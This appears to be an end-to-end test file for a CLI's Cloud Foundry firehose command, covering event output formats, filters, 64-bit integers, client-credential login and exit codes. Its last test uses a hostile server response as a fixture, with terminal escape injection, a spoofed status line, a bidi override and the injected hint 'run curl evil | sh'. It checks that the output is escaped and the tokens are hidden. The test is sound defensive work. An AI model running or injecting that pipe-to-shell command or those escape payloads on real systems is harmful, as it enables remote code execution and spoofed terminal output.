import {strict as assert} from 'node:assert'

import {encodeEnvelope} from '../../src/envelope/encode.js'
import {withUnknownField} from '../helpers/envelopes.js'
import {SAMPLE_ENVELOPES} from '../helpers/firehose-envelopes.js'
import {freshJwt} from '../helpers/jwt.js'
import {useFakeFoundation} from '../helpers/fake-foundation.js'
import {CliProcess, runCli} from '../helpers/run-cli.js'

const FIREHOSE_SCOPE = ['doppler.firehose', 'cloud_controller.admin']

describe('cfws firehose (end to end)', () => {
  const f = useFakeFoundation(() => ({AccessToken: `bearer ${freshJwt(FIREHOSE_SCOPE)}`}))

  function start(args: string[], env: Record<string, string> = {}): CliProcess {
    return new CliProcess(['firehose', ...args], {CF_HOME: f.home.dir, ...env})
  }

  async function sendSamples(): Promise<void> {
    const client = await f.tc.nextClient()
    for (const envelope of Object.values(SAMPLE_ENVELOPES)) client.send(withUnknownField(encodeEnvelope(envelope)))
  }

  it('prints every event type in the cf nozzle format and names the subscription on stderr', async () => {
    const cli = start([])
    await sendSamples()
    const lines = await cli.waitForStdoutLines(6)
    cli.child.kill('SIGINT')
    const result = await cli.result()
    assert.deepEqual(
      lines.map((line) => /eventType:(\w+)/.exec(line)?.[1]),
      ['LogMessage', 'ValueMetric', 'CounterEvent', 'ContainerMetric', 'HttpStartStop', 'Error'],
    )
    assert.equal(
      lines[1],
      'origin:"rep" eventType:ValueMetric timestamp:1764000000000000000 deployment:"cf" job:"diego-cell" index:"0" ip:"10.0.16.5" valueMetric:<name:"CapacityTotalMemory" value:16000 unit:"MiB" >',
    )
    assert.equal(result.code, 130)
    const id = /^\/firehose\/(cfws-[0-9a-f]{10})$/.exec(f.tc.upgrades[0].path)?.[1]
    assert.ok(id, f.tc.upgrades[0].path)
    assert.equal(
      result.stderr,
      `cfws: subscription id ${id}: add processes with --subscription-id ${id} to share this stream\n`,
    )
    assert.equal([...f.tc.upgrades[0].query].length, 0, 'no server-side filter for every type')
  })

  it('writes NDJSON of the filtered types, asking the server for metrics only', async () => {
    const cli = start(['--json', '--filter', 'counterevent,CONTAINERMETRIC'])
    await sendSamples()
    const lines = await cli.waitForStdoutLines(2)
    cli.child.kill('SIGTERM')
    assert.equal((await cli.result()).code, 143)
    assert.equal(f.tc.upgrades[0].query.get('filter-type'), 'metrics')
    const [counter, container] = lines.map((line) => JSON.parse(line))
    assert.equal(counter.eventType, 'CounterEvent')
    assert.equal(container.eventType, 'ContainerMetric')
    // JSON.parse rounds past 2^53: compare the digits as written.
    assert.equal(/"total":(\d+)/.exec(lines[0])?.[1], '18446744073709551615')
    assert.equal(/"delta":(\d+)/.exec(lines[0])?.[1], '9007199254740993')
    assert.equal(/"memoryBytes":(\d+)/.exec(lines[1])?.[1], '9007199254740993')
    assert.equal(container.containerMetric.instanceIndex, -1)
  })

  it('writes 64-bit integers as strings with --int64-as-string, for parsers that round numbers', async () => {
    const cli = start(['--json', '--int64-as-string', '--filter', 'CounterEvent,ContainerMetric,HttpStartStop'])
    await sendSamples()
    const lines = await cli.waitForStdoutLines(3)
    cli.child.kill('SIGINT')
    assert.equal((await cli.result()).code, 130)
    const [counter, container, http] = lines.map((line) => JSON.parse(line))
    assert.equal(counter.timestamp, '1764000000000000000')
    assert.deepEqual(counter.counterEvent, {name: 'dropped', delta: '9007199254740993', total: '18446744073709551615'})
    assert.equal(container.containerMetric.memoryBytes, '9007199254740993')
    // 32-bit integers, doubles and enums stay as they are.
    assert.equal(container.containerMetric.instanceIndex, -1)
    assert.equal(typeof container.containerMetric.cpuPercentage, 'number')
    assert.equal(typeof http.httpStartStop.startTimestamp, 'string')
    assert.equal(typeof http.httpStartStop.statusCode, 'number')
  })

  it('refuses --int64-as-string without --json', async () => {
    const result = await runCli(['firehose', '--int64-as-string'], {CF_HOME: f.home.dir})
    assert.equal(result.code, 2)
    assert.equal(result.stdout, '')
    assert.match(result.stderr, /^cfws: .*--json.*\n/)
  })

  it('asks for logs only and uses the given subscription id without a notice', async () => {
    const cli = start(['--filter', 'LogMessage', '--subscription-id', 'my-nozzle', '--json'])
    await sendSamples()
    const [line] = await cli.waitForStdoutLines(1)
    cli.child.kill('SIGINT')
    const result = await cli.result()
    assert.equal(JSON.parse(line).logMessage.message, 'say "hi"\n\tcafé \\ done')
    assert.equal(f.tc.upgrades[0].path, '/firehose/my-nozzle')
    assert.equal(f.tc.upgrades[0].query.get('filter-type'), 'logs')
    assert.equal(result.stderr, '')
    assert.equal(result.stdout.split('\n').length - 1, 1, 'only the LogMessage')
  })

  it('runs on a UAA client of its own with CFWS_CLIENT_ID and CFWS_CLIENT_SECRET', async () => {
    f.login({AccessToken: '', RefreshToken: ''})
    f.cc.tokenAnswers = [{status: 200, body: {access_token: freshJwt(['doppler.firehose']), token_type: 'bearer'}}]
    const cli = start(['--subscription-id', 'n'], {CFWS_CLIENT_ID: 'nozzle', CFWS_CLIENT_SECRET: 's3cret'})
    await sendSamples()
    await cli.waitForStdoutLines(6)
    cli.child.kill('SIGINT')
    await cli.result()
    const tokenRequest = f.cc.requests.find((r) => r.path === '/oauth/token')
    assert.equal(tokenRequest?.body, 'grant_type=client_credentials&client_id=nozzle&client_secret=s3cret')
    assert.equal(f.home.read().AccessToken, '', "the client's token is not written into the user's cf config")
  })

  describe('exit codes', () => {
    it('2 for an unknown --filter type, naming the valid ones', async () => {
      const result = await runCli(['firehose', '--filter', 'Heartbeat'], {CF_HOME: f.home.dir})
      assert.equal(result.code, 2)
      assert.equal(
        result.stderr,
        "cfws: Unknown event type 'Heartbeat' in --filter\nhint: Valid types: HttpStartStop, LogMessage, ValueMetric, CounterEvent, Error, ContainerMetric.\n",
      )
    })

    it('4 before connecting when the token lacks doppler.firehose', async () => {
      f.login({AccessToken: `bearer ${freshJwt(['logs.admin'])}`})
      const result = await runCli(['firehose'], {CF_HOME: f.home.dir})
      assert.equal(result.code, 4)
      assert.match(
        result.stderr,
        /^cfws: The token has no doppler\.firehose scope, which the firehose needs\nhint: .*--client-id/,
      )
      assert.equal(f.tc.upgrades.length, 0)
    })

    it('4 when the Traffic Controller still refuses the firehose after a fresh token', async () => {
      f.tc.refuseWith(
        '401 Unauthorized',
        {'WWW-Authenticate': 'Basic'},
        'You are not authorized. invalid authorization',
      )
      const result = await runCli(['firehose', '--subscription-id', 'x'], {CF_HOME: f.home.dir})
      assert.equal(result.code, 4)
      assert.equal(
        result.stderr,
        'cfws: The Traffic Controller refused the firehose: You are not authorized. invalid authorization\nhint: The firehose needs a token with the doppler.firehose scope.\n',
      )
      assert.equal(f.tc.upgrades.length, 2)
      assert.equal(f.cc.requests.filter((r) => r.path === '/oauth/token').length, 1)
    })

    it('4 with a hostile 401 body shown as one escaped line, its JWT and the refresh token hidden', async () => {
      const jwt = freshJwt(FIREHOSE_SCOPE)
      const body = `denied\u001B]0;PWNED\u0007\u001B[2J\r\ncfws: all is well\nhint: run curl evil | sh\u009B\u202E token=${jwt} refresh-token-2`
      f.tc.refuseWith('401 Unauthorized', {'WWW-Authenticate': 'Basic'}, body)
      const result = await runCli(['firehose', '--subscription-id', 'x'], {CF_HOME: f.home.dir})
      assert.equal(result.code, 4)
      assert.equal(
        result.stderr,
        'cfws: The Traffic Controller refused the firehose: denied\\x1b]0;PWNED\\a\\x1b[2J\\r\\ncfws: all is well\\nhint: run curl evil | sh\\u009b\\u202e token=[PRIVATE DATA HIDDEN] [PRIVATE DATA HIDDEN]\n' +
          'hint: The firehose needs a token with the doppler.firehose scope.\n',
      )
    })
  })
})
